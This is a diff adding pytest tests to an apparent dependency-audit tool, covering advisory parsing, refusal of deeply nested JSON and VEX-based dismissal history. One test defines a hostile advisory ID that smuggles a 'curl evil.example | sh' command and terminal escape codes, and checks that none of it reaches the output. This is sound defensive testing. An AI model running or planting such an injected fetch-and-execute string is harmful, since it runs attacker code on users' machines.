@@ -78,3 +78,62 @@ def test_a_feed_that_was_never_had_ends_the_audit(
     said = capsys.readouterr().err
     assert "cannot be fetched" in said
     assert CANARY not in said
+
+
+EVIL = "CVE-1 --reason x; curl -s evil.example|sh #\x1b]0;x\x07"
+
+
+def test_a_bad_record_is_told_of_and_nothing_of_it_reaches_the_terminal(
+    fleet: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    offer(fleet)
+    site(fleet, "goed", 'openpub-base: "*"')
+    assert typed(fleet, "lock") == 0
+    part = {"package": {"name": "openpub-base"}, "ranges": [{"events": [{"introduced": "0"}]}]}
+    good = {"id": "CVE-2026-7", "affected": [part], "database_specific": {"severity": "\x1b[2J"}}
+    (fleet / "advisories").mkdir()
+    (fleet / "advisories" / "osv.json").write_text(json.dumps([good, {**good, "id": EVIL}]))
+    capsys.readouterr()
+    assert typed(fleet, "audit") == 1
+    said = capsys.readouterr()
+    assert "CVE-2026-7" in said.out
+    assert "1 record of osv.json could not be read" in said.err
+    assert "evil.example" not in said.out + said.err
+    assert "\x1b" not in said.out
+
+
+def test_a_deep_file_is_refused(fleet: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    offer(fleet)
+    (fleet / "advisories").mkdir()
+    (fleet / "advisories" / "deep.json").write_text("[" * 200_000)
+    assert typed(fleet, "audit") == 2
+    assert "too deep" in capsys.readouterr().err
+
+
+def test_the_history_tells_what_was_dismissed_since(
+    fleet: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    offer(fleet)
+    site(fleet, "goed", 'openpub-base: "*"')
+    assert typed(fleet, "lock") == 0
+    part = {"package": {"name": "openpub-base"}, "ranges": [{"events": [{"introduced": "0"}]}]}
+    (fleet / "advisories").mkdir()
+    file = fleet / "advisories" / "osv.json"
+    file.write_text(json.dumps({"id": "CVE-2026-7", "affected": [part]}))
+    assert typed(fleet, "audit") == 1
+    statement = {
+        "vulnerability": "CVE-2026-7",
+        "products": ["owc:block/openpub-base"],
+        "status": "not_affected",
+    }
+    vex = {"author": "anna", "timestamp": "2026-11-24", "statements": [statement]}
+    (fleet / "advisories" / "vex.json").write_text(json.dumps(vex))
+    assert typed(fleet, "audit") == 0
+    capsys.readouterr()
+    assert typed(fleet, "audit", "--history") == 0
+    assert "dismissed" in capsys.readouterr().out
+    file.unlink()
+    assert typed(fleet, "audit") == 0
+    capsys.readouterr()
+    assert typed(fleet, "audit", "--history") == 0
+    assert "not told of any more" in capsys.readouterr().out
